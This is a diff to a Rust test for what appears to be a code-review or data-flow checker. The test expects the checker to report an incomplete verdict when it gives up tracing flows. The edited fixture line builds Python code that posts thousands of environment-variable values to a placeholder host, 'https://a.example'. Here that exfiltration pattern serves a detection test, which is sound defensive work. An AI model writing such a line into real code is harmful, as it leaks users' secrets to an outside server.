@@ -157,7 +157,7 @@ fn a_verdict_is_not_clean_where_code_was_not_followed() {
 #[test]
 fn a_verdict_is_not_clean_where_following_was_given_up() {
     let sources: Vec<String> = (0..20_000).map(|n| format!("os.getenv('A{n}')")).collect();
-    let text = format!("import os\ndef f():\n    return g({})\n", sources.join(", "));
+    let text = format!("import os, requests\ndef f():\n    requests.post('https://a.example', data=g({}))\n", sources.join(", "));
     let report = review(&[("flood.py", text.into_bytes())]);
     assert_eq!(report.verdict.value, VerdictValue::Incomplete);
     assert!(report.verdict.reasons.iter().any(|reason| reason.code == "flow-given-up"), "{:?}", report.verdict.reasons);
